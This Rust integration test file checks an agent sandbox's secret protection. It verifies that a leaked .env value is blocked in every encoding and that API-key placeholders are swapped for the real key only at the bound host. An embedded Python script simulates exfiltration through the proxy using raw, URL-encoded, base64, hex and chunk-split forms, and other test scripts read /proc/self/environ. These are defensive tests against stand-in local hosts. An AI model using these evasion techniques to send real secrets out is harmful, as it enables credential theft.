//! The agent never holds a real key and cannot smuggle one out (docs/attacks.md classes 8
//! and 9), against a real gvmd and a real sandbox through `gvmctl run`: a `.env` value
//! the agent learnt some other way (the test hands it over on the command line,
//! simulating a leak) is stopped in every form and way, and a secret's placeholder is
//! swapped for the value only for its bound host, over intercepted TLS.
//!
//! Privileged: `#[ignore = "needs root"]`, run with --include-ignored.

mod common;

use std::os::unix::fs::PermissionsExt;

use common::agent::*;
use common::*;

const REAL: &str = "sk-proj-REALVALUE-0123456789abcdef";

struct Rig {
    sb: Sandboxed,
    up: Upstream,
    tls: Upstream,
    dotenv: String,
}

fn rig(tag: &str) -> Rig {
    rig_with(tag, "")
}

/// [`rig`], with `more` added to the secret's table (e.g. `, body = true`).
fn rig_with(tag: &str, more: &str) -> Rig {
    let mut sb = Sandboxed::new(tag);
    let up = Upstream::start(None);
    let ca = TestCa::new(&["tls.test.example", "other.test.example"]);
    let tls = Upstream::start(Some(ca.server.clone()));
    let ca_file = sb.dirs.root.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, &ca.ca_pem).unwrap();
    let key = sb.dirs.root.path().join("openai.key");
    std::fs::write(&key, format!("{REAL}\n")).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let dotenv = format!("dotenv/S3cret+{}", std::process::id());
    std::fs::write(sb.ws.join(".env"), format!("API_KEY=\"{dotenv}\"\nSHORT=abc\n")).unwrap();
    let gvmd = format!(
        "[gateway]\nextra_roots = [\"{}\"]\n\n[gateway.hosts]\n\"api.test.example\" = [\"127.0.0.1\"]\n\
         \"tls.test.example\" = [\"127.0.0.1\"]\n\"other.test.example\" = [\"127.0.0.1\"]\n",
        ca_file.display()
    );
    let (p, t) = (up.port(), tls.port());
    let profile = format!(
        r#"[agent]
workspaces = [{{ path = "{ws}", mode = "overlay" }}]

[network]
default = "deny"

[[network.rule]]
host = "api.test.example"
port = {p}
action = "allow"

[[network.rule]]
host = "tls.test.example"
port = {t}
path = "/**"
action = "allow"

[[network.rule]]
host = "other.test.example"
port = {t}
path = "/**"
action = "allow"

[secrets]
openai = {{ file = "{key}", env = "OPENAI_API_KEY", hosts = ["tls.test.example"]{more} }}

[files]
deny_read = ["**/.env"]
"#,
        ws = sb.ws.display(),
        key = key.display(),
    );
    sb.start(&gvmd, &profile, &[]);
    Rig { sb, up, tls, dotenv }
}

/// A python agent that sends requests by hand through the proxy (plain HTTP,
/// chunked bodies, a pause between chunks when asked) and prints each status line
/// and answer under `@@name`.
const AGENT: &str = r#"
import socket, sys, time, base64, binascii, urllib.parse, re
V = sys.argv[1].encode()
P = int(sys.argv[2])
def req(name, path, chunks, pause=0):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(("POST http://api.test.example:%d%s HTTP/1.1\r\nHost: api.test.example:%d\r\n"
               "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" % (P, path, P)).encode())
    try:
        for i, c in enumerate(chunks):
            if i and pause:
                time.sleep(pause)
            s.sendall(b"%x\r\n" % len(c) + c + b"\r\n")
        s.sendall(b"0\r\n\r\n")
    except OSError:
        pass
    s.settimeout(15)
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except Exception:
        pass
    print("@@" + name)
    print(out.decode(errors="replace"))
req("body", "/b", [b'{"key": "' + V + b'"}'])
req("query", "/q?key=" + V.decode(), [b"x"])
req("urlenc", "/q?key=" + urllib.parse.quote(V, safe=""), [b"x"])
req("urlenc_lower", "/q?key=" + re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), urllib.parse.quote(V, safe="")), [b"x"])
for pre in [b"", b"a", b"ab"]:
    req("b64_%d" % len(pre), "/b", [b"blob=" + base64.b64encode(pre + V)])
    req("b64url_%d" % len(pre), "/b", [b"blob=" + base64.urlsafe_b64encode(pre + V).rstrip(b"=")])
req("hex", "/b", [b"h=" + binascii.hexlify(V)])
req("hex_upper", "/b", [b"h=" + binascii.hexlify(V).upper()])
req("split", "/split", [b"first-chunk-" + V[:7], V[7:] + b"-second-chunk"], pause=1.5)
req("clean", "/clean", [b"nothing to see", b" here"])
print("@@read")
try:
    print(open(".env").read())
except Exception as e:
    print("refused:", e)
"#;

#[test]
#[ignore = "needs root"]
fn a_dotenv_value_is_stopped_in_every_form_and_named_in_the_audit_log() {
    assert_root();
    let rig = rig("exf");
    let sb = &rig.sb;
    let port = rig.up.port().to_string();
    let ran = sb.run(&["/usr/bin/python3", "-c", AGENT, &rig.dotenv, &port]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    let mut names: Vec<String> = ["body", "query", "urlenc", "urlenc_lower", "hex", "hex_upper", "split"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    for n in 0..3 {
        names.push(format!("b64_{n}"));
        names.push(format!("b64url_{n}"));
    }
    for name in &names {
        let text = section(&s, name, &ran);
        assert!(text.starts_with("HTTP/1.1 403"), "{name}: {text}");
        assert!(text.contains(".env value API_KEY from"), "{name} does not name the key: {text}");
        assert!(!text.contains(&rig.dotenv), "{name}: the answer repeats the value");
    }
    let clean = section(&s, "clean", &ran);
    assert!(clean.starts_with("HTTP/1.1 200") && clean.contains("ok /clean"), "{clean}");
    assert!(section(&s, "read", &ran).contains("refused"), "the agent could read .env itself");
    // The first chunk of the split body streamed through; the completing one never did.
    assert!(rig.up.received("first-chunk-"), "the first chunk should have been forwarded");
    assert!(!rig.up.received("-second-chunk"), "the completing chunk reached the upstream");
    assert!(!rig.up.received(&rig.dotenv));
    // A leak in the URL never leaves. A body is scanned as it streams: the request head
    // may reach the upstream before the chunk that carries the value is refused (how
    // soon depends on timing), but that chunk never does.
    let seen = rig.up.seen();
    assert!(!seen.iter().any(|l| l.contains("/q")), "{seen:?}");
    for leaked_chunk in ["{\"key\"", "blob=", "h="] {
        assert!(!rig.up.received(leaked_chunk), "a chunk with the value reached the upstream: {leaked_chunk}");
    }
    // Identical refusals fold into counts (budget.rs): at least one event per form.
    let events = sb.events("exfiltration");
    assert!(events.len() >= 6, "{} exfiltration events for {} attempts", events.len(), names.len());
    for e in &events {
        assert_eq!(e["decision"], "deny", "{e}");
        assert!(e["details"]["exfiltration"].as_str().unwrap().contains("API_KEY"), "{e}");
    }
    // Only the run's own record of its command line (where the test put the value)
    // may hold it; no decision does.
    let holding: Vec<String> = sb
        .events("")
        .iter()
        .filter(|e| e.to_string().contains(&rig.dotenv))
        .map(|e| e["kind"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(holding.iter().all(|k| k.starts_with("run_")), "the value is in these events: {holding:?}");
}

#[test]
#[ignore = "needs root"]
fn a_placeholder_is_all_the_agent_holds_and_works_only_for_its_bound_host() {
    assert_root();
    let rig = rig("ph");
    let sb = &rig.sb;
    let (p, t) = (rig.up.port(), rig.tls.port());
    let curl = |name: &str, url: &str| {
        format!(
            "echo @@{name}; curl -sS -H \"Authorization: Bearer $OPENAI_API_KEY\" -w '\\nstatus=%{{http_code}}\\n' '{url}' 2>&1; "
        )
    };
    let script = [
        "echo @@environ; /usr/bin/python3 -c \"import sys; d = open('/proc/self/environ', 'rb').read(); \
         print(b'\\n'.join(x for x in d.split(b'\\0') if x.startswith(b'OPENAI')).decode()); \
         print('bytes', len(d))\" 2>&1; "
            .to_string(),
        curl("bound", &format!("https://tls.test.example:{t}/v1/chat")),
        curl("other", &format!("https://other.test.example:{t}/v1/chat")),
        curl("plain", &format!("http://api.test.example:{p}/v1/chat")),
    ]
    .concat();
    let ran = sb.sh(&script);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert!(!ran.out.contains(REAL), "the agent saw the real value: {ran:#?}");
    let s = sections(&ran.out);
    let environ = section(&s, "environ", &ran);
    assert!(environ.starts_with("OPENAI_API_KEY=gvm-secret-openai-"), "{environ}");
    let placeholder = environ.lines().next().unwrap().trim_start_matches("OPENAI_API_KEY=").to_string();
    assert_eq!(placeholder.len(), "gvm-secret-openai-".len() + 24, "{placeholder}");
    let bound = section(&s, "bound", &ran);
    assert!(bound.contains("ok /v1/chat") && bound.contains("status=200"), "{bound}");
    assert!(rig.tls.received(&format!("Bearer {REAL}")), "the bound host should get the real value");
    assert!(!rig.tls.received(&placeholder), "the placeholder reached an upstream");
    for name in ["other", "plain"] {
        let text = section(&s, name, &ran);
        assert!(text.contains("status=403") && text.contains("\"secret_egress\""), "{name}: {text}");
    }
    assert!(!rig.up.received(REAL) && !rig.up.received(&placeholder));
    let events = sb.events("secret_egress");
    assert_eq!(events.len(), 2, "{events:#?}");
    assert!(events.iter().all(|e| e["details"]["secret"] == "openai" && e["decision"] == "deny"), "{events:#?}");
    assert!(sb.events("").iter().all(|e| !e.to_string().contains(REAL)), "the value is in the audit log");
}

/// A profile whose secret file is missing is refused, naming the line and the fix;
/// the other profiles load.
#[test]
#[ignore = "needs root"]
fn a_missing_secret_file_refuses_the_profile_with_its_line() {
    assert_root();
    let mut sb = Sandboxed::new("msf");
    sb.dirs.write_profile("other-ok", "[network]\ndefault = \"deny\"\n");
    let profile = "[network]\ndefault = \"deny\"\n\n[secrets]\nk = { file = \"/nonexistent/gvm-test-key\" }\n";
    sb.start("", profile, &[]);
    let out = gvmctl(&sb.dirs, &["status", "--json"]);
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(s["profiles"].as_array().unwrap().iter().any(|p| p["name"] == "other-ok"), "{s:#}");
    let r = &s["refused"][0];
    assert_eq!((r["line"].as_u64(), r["field"].as_str()), (Some(5), Some("secrets.k.file")), "{s:#}");
    assert!(r["message"].as_str().unwrap().contains("cannot read /nonexistent/gvm-test-key"), "{s:#}");
    assert!(r["fix"].as_str().unwrap().contains("gvmctl reload"), "{s:#}");
}

/// The agent's placeholder, as it reads it from its environment, and what `curl` to the
/// bound host answers when it sends `sent` (its placeholder when empty).
fn placeholder_and_bound(rig: &Rig, sent: &str) -> (String, String) {
    let t = rig.tls.port();
    let token = if sent.is_empty() { "$OPENAI_API_KEY".to_string() } else { sent.to_string() };
    let script = format!(
        "echo @@environ; /usr/bin/python3 -c \"print([x for x in open('/proc/self/environ').read().split(chr(0)) if x.startswith('OPENAI_API_KEY=')][0])\"; \
         echo @@bound; curl -sS -H \"Authorization: Bearer {token}\" -w '\\nstatus=%{{http_code}}\\n' \
         'https://tls.test.example:{t}/v1/chat' 2>&1"
    );
    let ran = rig.sb.sh(&script);
    assert_eq!(ran.code, Some(0), "sent {sent:?}: {ran:#?}");
    let s = sections(&ran.out);
    let ph = section(&s, "environ", &ran).trim().trim_start_matches("OPENAI_API_KEY=").to_string();
    assert!(ph.starts_with("gvm-secret-openai-"), "{ran:#?}");
    (ph, section(&s, "bound", &ran).to_string())
}

#[test]
#[ignore = "needs root"]
fn a_placeholder_outlives_a_gvmd_restart_and_a_rotated_secret_gets_a_new_one() {
    assert_root();
    let mut rig = rig("phk");
    let (before, _) = placeholder_and_bound(&rig, "");

    let status = rig.sb.gvmd.take().unwrap().stop();
    assert!(status.success(), "{status}");
    let kept = rig.sb.dirs.state.join("placeholders.json");
    assert_eq!(std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(!std::fs::read_to_string(&kept).unwrap().contains(REAL), "the value is not kept");
    rig.sb.gvmd = Some(Gvmd::start(&rig.sb.dirs));

    // An agent started before the restart still holds `before`: it is swapped as ever.
    let (after, bound) = placeholder_and_bound(&rig, &before);
    assert_eq!(after, before, "the same placeholder after the restart");
    assert!(bound.contains("ok /v1/chat") && bound.contains("status=200"), "{bound}");
    assert!(rig.tls.received(&format!("Bearer {REAL}")), "the bound host gets the real value");
    assert!(!rig.tls.received(&before), "the placeholder reached the upstream");

    // The secret is rotated while gvmd is down: a new placeholder, swapped for the new value.
    let status = rig.sb.gvmd.take().unwrap().stop();
    assert!(status.success(), "{status}");
    let rotated = "sk-proj-ROTATED-fedcba9876543210";
    std::fs::write(rig.sb.dirs.root.path().join("openai.key"), format!("{rotated}\n")).unwrap();
    rig.sb.gvmd = Some(Gvmd::start(&rig.sb.dirs));
    let (new, bound) = placeholder_and_bound(&rig, "");
    assert_ne!(new, before, "a rotated secret drops its placeholder");
    assert!(bound.contains("status=200"), "{bound}");
    assert!(rig.tls.received(&format!("Bearer {rotated}")));
    assert!(!std::fs::read_to_string(&kept).unwrap().contains(&before));
}

/// `body = true`: an SDK that sends its key in the JSON body works against the bound
/// host (the upstream gets the real value, never the placeholder); the same body to
/// another host is refused.
#[test]
#[ignore = "needs root"]
fn with_body_true_the_placeholder_in_a_json_body_is_swapped_for_the_bound_host() {
    assert_root();
    let rig = rig_with("phb", ", body = true");
    let t = rig.tls.port();
    let post = |name: &str, host: &str| {
        format!(
            "echo @@{name}; curl -sS -H 'Content-Type: application/json' -d \"{{\\\"api_key\\\": \\\"$OPENAI_API_KEY\\\"}}\" \
             -w '\\nstatus=%{{http_code}}\\n' 'https://{host}:{t}/v1/files' 2>&1; "
        )
    };
    let ran = rig.sb.sh(&[post("bound", "tls.test.example"), post("other", "other.test.example")].concat());
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let s = sections(&ran.out);
    let bound = section(&s, "bound", &ran);
    assert!(bound.contains("ok /v1/files") && bound.contains("status=200"), "{bound}");
    assert!(rig.tls.received(&format!("{{\"api_key\": \"{REAL}\"}}")), "the bound host gets the value in the body");
    assert!(!rig.tls.received("gvm-secret-openai-"), "a placeholder reached an upstream");
    let other = section(&s, "other", &ran);
    assert!(other.contains("status=403") && other.contains("\"secret_egress\""), "{other}");
    assert!(!ran.out.contains(REAL), "the agent saw the real value: {ran:#?}");
}
